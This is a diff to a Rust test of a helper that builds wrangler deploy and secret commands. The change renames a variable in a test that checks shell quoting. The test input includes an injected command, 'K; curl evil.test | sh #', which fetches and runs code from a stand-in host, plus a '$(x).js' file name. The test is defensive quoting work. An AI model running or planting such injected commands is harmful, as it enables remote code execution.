@@ -282,12 +282,12 @@ mod tests {
 
     #[test]
     fn commands_hold_words_only() {
-        let told = commands(&Document::new("t"), "my-flow", "my-flow.js", ["OWN".to_owned()].iter());
-        assert!(told.ends_with("npx wrangler@4 secret put OWN --name my-flow\n"), "{told}");
-        let told =
+        let text = commands(&Document::new("t"), "my-flow", "my-flow.js", ["OWN".to_owned()].iter());
+        assert!(text.ends_with("npx wrangler@4 secret put OWN --name my-flow\n"), "{text}");
+        let text =
             commands(&Document::new("t"), "it's", "$(x).js", ["K; curl evil.test | sh #".to_owned()].iter());
-        assert!(told.contains(r"deploy '$(x).js' --name 'it'\''s' "), "{told}");
-        assert!(told.ends_with("secret put 'K; curl evil.test | sh #' --name 'it'\\''s'\n"), "{told}");
+        assert!(text.contains(r"deploy '$(x).js' --name 'it'\''s' "), "{text}");
+        assert!(text.ends_with("secret put 'K; curl evil.test | sh #' --name 'it'\\''s'\n"), "{text}");
     }
 
     #[test]
